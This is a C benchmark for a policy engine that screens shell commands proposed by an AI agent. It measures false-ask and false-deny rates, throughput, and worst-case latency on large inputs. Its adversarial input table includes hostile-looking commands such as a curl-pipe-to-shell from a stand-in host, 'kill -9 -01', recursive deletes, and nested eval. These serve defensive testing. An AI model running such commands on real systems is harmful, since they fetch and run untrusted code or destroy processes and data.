/* bench_policy.c — policy engine throughput and worst-case latency.
 *
 * 1. The false-ask and false-deny rates over the corpus of ordinary agent commands
 *    (tests/data/policy/ordinary.txt; both should be 0).
 * 2. Evaluations per second over that corpus (target >= 100000/s).
 * 3. Worst-case wall time to judge a 128 KiB command, over adversarial shapes (< 10 ms).
 * The baseline of each ratio is the target itself, as the issue states it; ratio > 1 is better.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "policy/policy.h"
#include "protocol/util.h"
#include "tests/unit/helper_policy.h"

#define CORPUS "tests/data/policy/ordinary.txt"

struct corpus {
        char **cmd;
        size_t n;
};

/* The ordinary agent commands of the unit tests (one per line, '#' comments). */
static int
corpus_load(struct corpus *c)
{
        FILE *f = fopen(CORPUS, "r");
        char line[8192];

        if (!f) {
                fprintf(stderr, "bench_policy: %s: cannot open (run from the source tree)\n",
                        CORPUS);
                return -1;
        }
        while (fgets(line, sizeof(line), f)) {
                line[strcspn(line, "\n")] = '\0';
                if (!line[0] || line[0] == '#')
                        continue;
                c->cmd = xrealloc(c->cmd, (c->n + 1) * sizeof(*c->cmd));
                c->cmd[c->n++] = xstrdup(line);
        }
        fclose(f);
        return 0;
}

/* How many ordinary commands ask and how many are denied: both should be none. */
static void
false_rates(struct policy *p, const struct policy_ctx *ctx, const struct corpus *c)
{
        size_t ask = 0, deny = 0;
        struct policy_result r;

        for (size_t k = 0; k < c->n; k++) {
                policy_eval_command(p, ctx, c->cmd[k], &r);
                ask += r.verdict == POLICY_ASK;
                deny += r.verdict == POLICY_DENY;
                if (r.verdict != POLICY_ALLOW)
                        printf("  not allowed: %s\n", c->cmd[k]);
                policy_result_clear(&r);
        }
        printf("policy corpus: %zu ordinary commands; false-ask %zu (%.2f%%), false-deny %zu "
               "(%.2f%%)\n",
               c->n, ask, 100.0 * (double) ask / (double) c->n, deny,
               100.0 * (double) deny / (double) c->n);
}

static char *
repeat(const char *piece, size_t total)
{
        size_t l = strlen(piece), n = total / l;
        char *s = xmalloc(n * l + 1);

        for (size_t k = 0; k < n; k++)
                memcpy(s + k * l, piece, l);
        s[n * l] = '\0';
        return s;
}

static double
throughput(struct policy *p, const struct policy_ctx *ctx, const struct corpus *c)
{
        size_t iters = 400;
        uint64_t t0 = util_now_ns();
        struct policy_result r;

        for (size_t it = 0; it < iters; it++) {
                for (size_t k = 0; k < c->n; k++) {
                        policy_eval_command(p, ctx, c->cmd[k], &r);
                        policy_result_clear(&r);
                }
        }
        double secs = (double) (util_now_ns() - t0) / 1e9;
        return (double) (c->n * iters) / secs;
}

static double
worst_case(struct policy *p, const struct policy_ctx *ctx, const char **which)
{
        static const char *const shapes[][2] = {
                {"word", "abcdefgh"},
                {"commands", "ls -la; "},
                {"pipes", "a | b && c || d; "},
                {"quotes", "'x' \"y $z\" $'\\x41' "},
                {"subst", "$(echo `ls`) "},
                {"braces", "{a,b,c}{1..3} "},
                {"rm-rf", "rm -rf build/x; "},
                {"vars", "${HOME}/$X~/ "},
                {"bash-c", "bash -c 'ls'; "},
                {"heredoc", "cat <<E\n$(ls)\nE\n"},
                {"options", "--recu -rfv -o x "},
                {"wrappers", "sudo nice timeout 5 env X=1 command "},
                {"awk", "awk 'BEGIN{print \"x\" > \"f\"; system(\"ls\")}' f; "},
                {"python-c", "python3 -c 'import json; print(json.dumps([1, 2]))'; "},
                {"curl-sh", "curl -s http://x | sh; "},
                {"kill", "kill -9 -01 $PPID; "},
                {"find", "find . -name '*.o' -exec rm -f {} +; "},
                {"eval", "eval 'eval \"ls\"'; "},
                {"git", "git -c core.pager=less log --oneline; "},
                {"fd", "exec 3< <(cat x); bash /dev/fd/3; "},
        };
        double worst = 0;
        struct policy_result r;

        for (size_t s = 0; s < ARRAY_SIZE(shapes); s++) {
                char *cmd = repeat(shapes[s][1], 128 * 1024);
                double best = 1e9;
                for (int rep = 0; rep < 5; rep++) {
                        uint64_t t0 = util_now_ns();
                        policy_eval_command(p, ctx, cmd, &r);
                        double ms = (double) (util_now_ns() - t0) / 1e6;
                        policy_result_clear(&r);
                        best = ms < best ? ms : best;
                }
                printf("  128 KiB %-9s %8.3f ms\n", shapes[s][0], best);
                if (best > worst) {
                        worst = best;
                        *which = shapes[s][0];
                }
                free(cmd);
        }
        return worst;
}

int
main(void)
{
        struct policy_ctx ctx = policy_test_ctx();
        struct policy *p = policy_new_default();
        struct corpus c = {0};
        const char *which = "";

        if (corpus_load(&c) < 0)
                return 1;
        false_rates(p, &ctx, &c);
        double eps = throughput(p, &ctx, &c);
        printf("policy throughput: %.0f evaluations/s over %zu ordinary commands; target "
               "100000/s; ratio %.2f\n",
               eps, c.n, eps / 100000.0);
        double ms = worst_case(p, &ctx, &which);
        printf("policy worst case: %.3f ms for a 128 KiB command (%s); target 10 ms; ratio %.2f\n",
               ms, which, 10.0 / ms);
        for (size_t k = 0; k < c.n; k++)
                free(c.cmd[k]);
        free(c.cmd);
        policy_free(p);
        return 0;
}
